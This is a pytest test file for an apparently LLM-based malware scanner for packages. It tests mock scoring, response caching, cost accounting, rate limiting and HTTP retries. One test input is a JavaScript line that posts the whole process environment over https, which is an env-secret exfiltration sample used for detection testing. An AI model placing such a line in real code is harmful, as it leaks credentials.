from __future__ import annotations

import json
import threading
from decimal import Decimal

import httpx
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from pkgsentry.errors import ConfigurationError
from pkgsentry.llmclient import (
    Cassette,
    CassetteMissError,
    ChatRequest,
    CostLedger,
    LiveBackend,
    LLMClient,
    MockBackend,
    RateLimiter,
    ReplayBackend,
    TransportError,
    mock_analyze,
    percent_reduction,
)
from pkgsentry.prescreen import categories_of, default_rules, scan_content
from pkgsentry.prompts import load_profile, render_critique, render_final, render_initial
from pkgsentry.reportjson import parse_report

from conftest import TABLE5_SCRIPT, source_file


def initial_request(content: str, n: int = 1) -> ChatRequest:
    bundle = render_initial(source_file("input.js", content))
    return ChatRequest(
        model_id="gpt-3.5-turbo-1106",
        system_text=bundle.system_text,
        user_text=bundle.user_text,
        temperature=1.0,
        top_p=0.9,
        n=n,
    )


class TestRequestKey:
    def test_stable_across_instances(self):
        a = initial_request("let x = 1;")
        b = initial_request("let x = 1;")
        assert a.request_key == b.request_key

    def test_sensitive_to_sampling_parameters(self):
        base = initial_request("let x = 1;")
        hotter = ChatRequest(
            model_id=base.model_id,
            system_text=base.system_text,
            user_text=base.user_text,
            temperature=0.5,
            top_p=base.top_p,
            n=base.n,
        )
        assert base.request_key != hotter.request_key

    def test_n_must_be_positive(self):
        with pytest.raises(ValueError):
            ChatRequest("m", "s", "u", 1.0, 0.9, n=0)


class TestMockAnalyst:
    def test_deterministic(self):
        req = initial_request("eval(x) // base64")
        assert mock_analyze(req) == mock_analyze(req)

    def test_exfiltration_script_scores_one(self):
        # independent oracle: categories from a direct rule scan, then the
        # frozen formula applied by hand
        cats = categories_of(scan_content(TABLE5_SCRIPT, default_rules()))
        expected = min(1.0, 0.35 * len(cats) + (0.3 if "network" in cats else 0.0))
        assert len(cats) >= 3 and "network" in cats
        assert expected == 1.0

        report = parse_report(mock_analyze(initial_request(TABLE5_SCRIPT)).texts[0])
        assert report.malware == 1.0
        assert report.security_risk == 1.0
        assert report.confidence == 0.9

    def test_benign_file_scores_zero(self):
        report = parse_report(mock_analyze(initial_request('console.log("hi")\n')).texts[0])
        assert report.malware == 0.0
        assert report.confidence == 0.6

    def test_obfuscation_only_file(self):
        report = parse_report(
            mock_analyze(initial_request("const s = decode(blob, 'base64');\n")).texts[0]
        )
        assert report.malware == 0.35
        assert report.obfuscated == 0.8

    def test_two_categories_with_network_is_exactly_one(self):
        content = "const https = require('https');\nhttps.request(opts).write(JSON.stringify(process.env));\n"
        report = parse_report(mock_analyze(initial_request(content)).texts[0])
        assert report.malware == 1.0

    def test_n_texts_returned(self):
        resp = mock_analyze(initial_request("let x = 1;", n=5))
        assert len(resp.texts) == 5

    def test_critique_echoes_scores(self):
        file = source_file("input.js", TABLE5_SCRIPT)
        initial = mock_analyze(initial_request(TABLE5_SCRIPT, n=3))
        bundle = render_critique(file, list(initial.texts))
        req = ChatRequest("m", bundle.system_text, bundle.user_text, 0.75, 0.6, n=3)
        critique = mock_analyze(req)
        assert len(critique.texts) == 3
        for text in critique.texts:
            assert parse_report(text).malware == 1.0

    def test_final_picks_max_confidence(self):
        file = source_file("input.js", "let x = 1;")
        low = json.dumps(
            {
                "purpose": "a",
                "sources": "b",
                "sinks": "c",
                "flows": "d",
                "anomalies": "e",
                "analysis": "f",
                "conclusion": "low confidence",
                "confidence": 0.2,
                "obfuscated": 0,
                "malware": 0.1,
                "securityRisk": 0.1,
            }
        )
        high = low.replace('"confidence": 0.2', '"confidence": 0.95').replace(
            "low confidence", "high confidence"
        )
        bundle = render_final(file, [low, high])
        req = ChatRequest("m", bundle.system_text, bundle.user_text, 0.5, 0.5, n=1)
        final = parse_report(mock_analyze(req).texts[0])
        assert final.conclusion == "high confidence"


class TestCassette:
    def test_record_then_replay_identical(self, tmp_path):
        req = initial_request(TABLE5_SCRIPT, n=2)
        cassette = Cassette(model_id="gpt-3.5-turbo-1106", created_at="now")
        client = LLMClient(backend=MockBackend(), recording=cassette)
        recorded = client.complete(req)
        path = tmp_path / "tape.json"
        cassette.save(path)

        replayed = LLMClient(backend=ReplayBackend(Cassette.load(path))).complete(req)
        assert replayed.texts == recorded.texts
        assert replayed.prompt_tokens == recorded.prompt_tokens
        assert replayed.backend == "replay"

    def test_miss_raises_and_leaves_ledger_unchanged(self):
        ledger = CostLedger()
        client = LLMClient(backend=ReplayBackend(Cassette()), ledger=ledger)
        req = initial_request("let x = 1;")
        with pytest.raises(CassetteMissError) as exc:
            client.complete(req)
        assert req.request_key in str(exc.value)
        assert ledger.total_cost_nanodollars == 0
        assert ledger.to_dict()["total"]["calls"] == 0

    def test_save_load_roundtrip(self, tmp_path):
        cassette = Cassette(model_id="m", created_at="t")
        from pkgsentry.llmclient import ChatResponse

        cassette.put("k1", ChatResponse(texts=("a", "b"), prompt_tokens=3, completion_tokens=4, backend="mock"))
        path = tmp_path / "c.json"
        cassette.save(path)
        loaded = Cassette.load(path)
        resp = loaded.get("k1")
        assert resp.texts == ("a", "b")
        assert loaded.model_id == "m"


class TestLedger:
    def test_simple_cost_arithmetic(self):
        profile = load_profile("gpt3")  # $0.001 / $0.002 per 1K
        ledger = CostLedger()
        ledger.register_model(profile)
        ledger.record(profile.model_id, 10_000, 5_000)
        assert ledger.total_cost == Decimal("0.02")

    def test_exact_integer_accumulation(self):
        profile = load_profile("gpt4")  # $0.01 / $0.03 per 1K
        ledger = CostLedger()
        ledger.register_model(profile)
        for _ in range(7):
            ledger.record(profile.model_id, 333, 111)
        expected_nano = 7 * (333 * 10_000 + 111 * 30_000)
        assert ledger.total_cost_nanodollars == expected_nano

    def test_thread_safe_conservation(self):
        profile = load_profile("gpt3")
        ledger = CostLedger()
        ledger.register_model(profile)

        def hammer():
            for _ in range(200):
                ledger.record(profile.model_id, 10, 10)

        threads = [threading.Thread(target=hammer) for _ in range(8)]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
        report = ledger.to_dict()
        assert report["total"]["calls"] == 1600
        assert report["total"]["prompt_tokens"] == 16000


class TestReductionArithmetic:
    def test_file_reduction(self):
        assert percent_reduction(18754, 4146) == "77.9"

    def test_cheap_model_cost_reduction(self):
        before = int(Decimal("125.65") * 1_000_000_000)
        after = int(Decimal("49.13") * 1_000_000_000)
        assert percent_reduction(before, after) == "60.9"

    def test_expensive_model_cost_reduction(self):
        before = int(Decimal("2013.84") * 1_000_000_000)
        after = int(Decimal("482.46") * 1_000_000_000)
        assert percent_reduction(before, after) == "76.1"

    def test_zero_after(self):
        assert percent_reduction(100, 0) == "100.0"

    def test_identity(self):
        assert percent_reduction(100, 100) == "0.0"

    def test_bad_before(self):
        with pytest.raises(ValueError):
            percent_reduction(0, 1)


class VirtualClock:
    def __init__(self):
        self.now = 0.0

    def clock(self) -> float:
        return self.now

    def sleep(self, seconds: float) -> None:
        self.now += seconds


class TestRateLimiter:
    def test_window_bound_sequential(self):
        vc = VirtualClock()
        limiter = RateLimiter(5, clock=vc.clock, sleeper=vc.sleep)
        stamps = []
        for _ in range(40):
            limiter.acquire()
            stamps.append(vc.now)
        for i, t in enumerate(stamps):
            inside = [s for s in stamps if t - 60 <= s <= t]
            assert len(inside) <= 5

    @settings(max_examples=1000, deadline=None)
    @given(
        rate=st.integers(min_value=1, max_value=8),
        count=st.integers(min_value=1, max_value=40),
        gaps=st.lists(st.floats(min_value=0, max_value=30, allow_nan=False), max_size=40),
    )
    def test_window_bound_property(self, rate, count, gaps):
        vc = VirtualClock()
        limiter = RateLimiter(rate, clock=vc.clock, sleeper=vc.sleep)
        stamps = []
        for i in range(count):
            if i < len(gaps):
                vc.now += gaps[i]
            limiter.acquire()
            stamps.append(vc.now)
        for t in stamps:
            inside = [s for s in stamps if t - 60 <= s <= t]
            assert len(inside) <= rate

    def test_rejects_nonpositive_rate(self):
        with pytest.raises(ValueError):
            RateLimiter(0)


def make_live(handler, **kwargs) -> LiveBackend:
    transport = httpx.MockTransport(handler)
    return LiveBackend(
        endpoint="https://api.test",
        api_key="test-key",
        http_client=httpx.Client(transport=transport),
        sleeper=lambda s: None,
        **kwargs,
    )


def ok_payload(n: int) -> dict:
    return {
        "choices": [{"message": {"content": '{"purpose": "p", "malware": 0}'}} for _ in range(n)],
        "usage": {"prompt_tokens": 12, "completion_tokens": 7},
    }


class TestLiveBackend:
    def test_success(self):
        def handler(request):
            body = json.loads(request.content)
            assert body["model"] == "m"
            assert request.headers["authorization"] == "Bearer test-key"
            return httpx.Response(200, json=ok_payload(body["n"]))

        resp = make_live(handler).complete(ChatRequest("m", "sys", "user", 1.0, 0.9, n=2))
        assert len(resp.texts) == 2
        assert resp.prompt_tokens == 12
        assert resp.backend == "live"

    def test_retries_on_rate_limit(self):
        calls = {"n": 0}

        def handler(request):
            calls["n"] += 1
            if calls["n"] < 3:
                return httpx.Response(429, json={"error": "slow down"})
            return httpx.Response(200, json=ok_payload(1))

        resp = make_live(handler).complete(ChatRequest("m", "s", "u", 1.0, 0.9))
        assert calls["n"] == 3
        assert resp.texts

    def test_exhausted_retries(self):
        def handler(request):
            return httpx.Response(503, json={"error": "down"})

        with pytest.raises(TransportError):
            make_live(handler, max_attempts=3).complete(ChatRequest("m", "s", "u", 1.0, 0.9))

    def test_empty_completion_is_retried_not_benign(self):
        calls = {"n": 0}

        def handler(request):
            calls["n"] += 1
            if calls["n"] == 1:
                return httpx.Response(
                    200,
                    json={
                        "choices": [{"message": {"content": ""}}],
                        "usage": {"prompt_tokens": 1, "completion_tokens": 0},
                    },
                )
            return httpx.Response(200, json=ok_payload(1))

        resp = make_live(handler).complete(ChatRequest("m", "s", "u", 1.0, 0.9))
        assert calls["n"] == 2
        assert resp.texts[0].strip()

    def test_hard_http_error_not_retried(self):
        def handler(request):
            return httpx.Response(401, json={"error": "bad key"})

        with pytest.raises(TransportError):
            make_live(handler).complete(ChatRequest("m", "s", "u", 1.0, 0.9))

    def test_missing_key_is_configuration_error(self, monkeypatch):
        monkeypatch.delenv("PKGSENTRY_API_KEY", raising=False)
        with pytest.raises(ConfigurationError):
            LiveBackend(endpoint="https://api.test")

    def test_key_from_environment(self, monkeypatch):
        monkeypatch.setenv("PKGSENTRY_API_KEY", "env-key")
        backend = LiveBackend(endpoint="https://api.test")
        assert backend.api_key == "env-key"


class TestClientLedgerIntegration:
    def test_one_record_per_successful_call(self):
        profile = load_profile("gpt3")
        ledger = CostLedger()
        ledger.register_model(profile)
        client = LLMClient(backend=MockBackend(), ledger=ledger)
        client.complete(initial_request("let x = 1;"))
        client.complete(initial_request("let y = 2;"))
        assert ledger.to_dict()["total"]["calls"] == 2
